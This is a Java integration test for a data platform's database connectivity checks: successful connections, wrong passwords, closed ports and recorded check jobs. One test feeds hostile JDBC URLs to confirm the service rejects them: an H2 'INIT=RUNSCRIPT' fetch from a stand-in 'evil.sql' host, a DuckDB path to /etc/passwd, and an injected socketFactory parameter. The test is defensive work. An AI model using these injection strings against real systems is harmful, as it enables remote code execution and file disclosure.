package dev.sluice.platform.datasource;

import static dev.sluice.platform.PlatformTenant.json;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.DriverManager;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import org.h2.tools.Server;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.test.context.TestPropertySource;

import dev.sluice.account.AccountAdmin;
import dev.sluice.platform.PlatformTenant;
import dev.sluice.testsupport.RawClient.Response;
import dev.sluice.testsupport.SluiceServerTest;
import dev.sluice.testsupport.SourceDatabases;
import tools.jackson.databind.JsonNode;

/**
 * Connectivity checks against real servers: the machine's PostgreSQL and MariaDB (or embedded ones), an H2 server
 * started here, and in-memory DuckDB; a wrong password and a closed port fail with the reason, fast.
 */
@SluiceServerTest
@TestPropertySource(properties = SourceDatabases.LOCAL_HOSTS_ALLOWED)
class ConnectivityChecksTest {

    static Server h2;
    static String h2Url;

    @LocalServerPort
    int port;

    @Autowired
    AccountAdmin admin;

    PlatformTenant t;

    @BeforeAll
    static void h2Server() throws Exception {
        Path dir = Files.createTempDirectory("sluice-h2-source");
        h2 = Server.createTcpServer("-tcpPort", String.valueOf(SourceDatabases.closedPort()), "-ifNotExists", "-baseDir", dir.toString()).start();
        h2Url = "jdbc:h2:tcp://127.0.0.1:" + h2.getPort() + "/checks";
        DriverManager.getConnection(h2Url, "sa", "right-password").close(); // creates the database with this password
    }

    @AfterAll
    static void stopH2() {
        h2.stop();
    }

    @BeforeEach
    void tenant() {
        t = PlatformTenant.create(admin, port);
    }

    static String config(String url, String user, String password) {
        List<Map<String, String>> items = new ArrayList<>(List.of(Map.of("Key", "jdbc.url", "Value", url)));
        if (user != null) items.add(Map.of("Key", "jdbc.username", "Value", user));
        if (password != null) items.add(Map.of("Key", "jdbc.password", "Value", password));
        return json(items);
    }

    Response check(String type, String url, String user, String password) {
        return t.call("CheckDataSourceConnectivity").param("CheckCommand",
                "{\"Type\":\"" + type + "\",\"ConfigItemList\":" + config(url, user, password) + "}").send();
    }

    static void connected(Response r) {
        assertThat(r.status()).as(r.body().toString()).isEqualTo(200);
        assertThat(r.body().path("Data").asBoolean()).as(r.message()).isTrue();
    }

    @Test
    void realServersOfEachSupportedTypeConnect() {
        connected(check("POSTGRE_SQL", SourceDatabases.postgresUrl(), null, null));
        connected(check("MARIADB", SourceDatabases.mariadbUrl(), null, null));
        connected(check("MYSQL", SourceDatabases.mariadbUrl().replace("jdbc:mariadb:", "jdbc:mysql:"), null, null));
        connected(check("H2", h2Url, "sa", "right-password"));
        connected(check("DUCKDB", "jdbc:duckdb:", null, null));
        connected(t.call("CheckComputeSourceConnectivity").param("CheckCommand",
                "{\"Type\":\"POSTGRE_SQL\",\"ConfigList\":" + config(SourceDatabases.postgresUrl(), null, null) + "}").send());
    }

    @Test
    void aWrongPasswordFailsWithTheServersReasonAndWithoutThePassword() {
        Response h2Refused = check("H2", h2Url, "sa", "wrong-password-42");
        assertThat(h2Refused.status()).isEqualTo(200);
        assertThat(h2Refused.body().path("Data").asBoolean()).isFalse();
        assertThat(h2Refused.message()).contains("Wrong user name or password").doesNotContain("wrong-password-42");
    }

    @Test
    void aWrongMariadbPasswordFailsWithAccessDenied() {
        assumeTrue(System.getenv("SLUICE_TEST_MARIADB_URL") != null, "the embedded MariaDB runs without grant tables, so it accepts any password");
        Response refused = check("MARIADB", SourceDatabases.mariadbUrl(), null, "not-the-root-password");
        assertThat(refused.body().path("Data").asBoolean()).isFalse();
        assertThat(refused.message()).contains("Access denied").doesNotContain("not-the-root-password");
    }

    @Test
    void aClosedPortFailsFastWithTheReason() {
        long started = System.nanoTime();
        Response refused = check("POSTGRE_SQL", "jdbc:postgresql://127.0.0.1:" + SourceDatabases.closedPort() + "/none", "postgres", null);
        long millis = (System.nanoTime() - started) / 1_000_000;
        assertThat(refused.body().path("Data").asBoolean()).isFalse();
        assertThat(refused.message()).containsIgnoringCase("refused");
        assertThat(millis).isLessThan(5_000);
    }

    @Test
    void checksOfSavedSourcesAreRecordedNewestFirst() {
        Response created = t.call("CreateDataSource").param("CreateCommand", json(Map.of("ProdDataSourceCreate", Map.of("Name", "pg",
                "Type", "POSTGRE_SQL", "CheckActivity", true, "ConfigItemList", List.of(Map.of("Key", "jdbc.url", "Value", SourceDatabases.postgresUrl())))))).send();
        assertThat(created.status()).as(created.body().toString()).isEqualTo(200);
        long id = created.body().path("CreateResult").path("ProdDataSourceId").asLong();

        connected(t.call("CheckDataSourceConnectivityById").param("Id", id).send());
        t.call("UpdateDataSourceConfig").param("UpdateCommand", json(Map.of("Id", id, "ConfigItemList", List.of(Map.of("Key", "jdbc.url",
                "Value", "jdbc:postgresql://127.0.0.1:" + SourceDatabases.closedPort() + "/gone"))))).send();
        Response down = t.call("CheckDataSourceConnectivityById").param("Id", id).send();
        assertThat(down.body().path("Data").asBoolean()).isFalse();

        JsonNode jobs = t.call("GetCheckConnectivityJobs").param("DataSourceId", id).send().body().path("Data");
        assertThat(jobs).extracting(j -> j.path("Status").asString()).containsExactly("FAILED", "SUCCESS");
        assertThat(jobs.get(0).path("ErrorMsg").asString()).containsIgnoringCase("refused");
        assertThat(jobs.get(0).path("DataSourceId").asString()).isEqualTo(String.valueOf(id));
        assertThat(jobs.get(0).path("TenantId").asString()).isEqualTo(String.valueOf(t.tenantId()));
        assertThat(jobs.get(0).path("JobType").asString()).isEqualTo("application");
        assertThat(t.call("GetCheckConnectivityJobs").send().code()).isEqualTo("MissingParameter");
        assertThat(t.call("GetCheckConnectivityJobs").param("DataSourceId", 7).send().status()).isEqualTo(404);
    }

    @Test
    void aSourceThatMustConnectIsNotCreatedWhenItCannot() {
        Response refused = t.call("CreateDataSource").param("CreateCommand", json(Map.of("ProdDataSourceCreate", Map.of("Name", "gone",
                "Type", "POSTGRE_SQL", "CheckActivity", true, "ConfigItemList", List.of(Map.of("Key", "jdbc.url",
                        "Value", "jdbc:postgresql://127.0.0.1:" + SourceDatabases.closedPort() + "/x")))))).send();
        assertThat(refused.status()).isEqualTo(400);
        assertThat(refused.code()).isEqualTo("ConnectivityCheckFailed");
        assertThat(refused.message()).contains("CreateCommand.ProdDataSourceCreate").containsIgnoringCase("refused");
        assertThat(t.call("ListDataSourceWithConfig").param("ListQuery", json(Map.of("Page", 1, "PageSize", 10))).send()
                .body().path("PageResult").path("TotalCount").asLong()).isZero();
    }

    @Test
    void checksRefuseWhatTheyCannotOrMustNotDo() {
        Response unsupported = t.call("CheckDataSourceConnectivity").param("CheckCommand",
                "{\"Type\":\"MAX_COMPUTE\",\"ConfigItemList\":[{\"Key\":\"endpoint\",\"Value\":\"http://x\"}]}").send();
        assertThat(unsupported.status()).isEqualTo(400);
        assertThat(unsupported.code()).isEqualTo("UnsupportedOperation");
        assertThat(unsupported.message()).contains("MAX_COMPUTE");

        Response memory = check("H2", "jdbc:h2:mem:sluice-test", "sa", null);
        assertThat(memory.code()).isEqualTo("InvalidParameter");
        assertThat(memory.message()).contains("CheckCommand.ConfigItemList[0].Value", "in-memory");
        Response script = check("H2", h2Url + ";INIT=RUNSCRIPT FROM 'http://x/evil.sql'", "sa", null);
        assertThat(script.message()).contains("INIT");
        Response file = check("DUCKDB", "jdbc:duckdb:/etc/passwd", null, null);
        assertThat(file.message()).contains("sluice.sources.file-roots");
        Response factory = check("POSTGRE_SQL", SourceDatabases.postgresUrl() + "&socketFactory=java.lang.Object", null, null);
        assertThat(factory.message()).contains("socketFactory");
        Response missing = t.call("CheckDataSourceConnectivity").param("CheckCommand", "{\"Type\":\"H2\"}").send();
        assertThat(missing.code()).isEqualTo("MissingParameter");
        assertThat(missing.message()).contains("CheckCommand.ConfigItemList");
    }
}
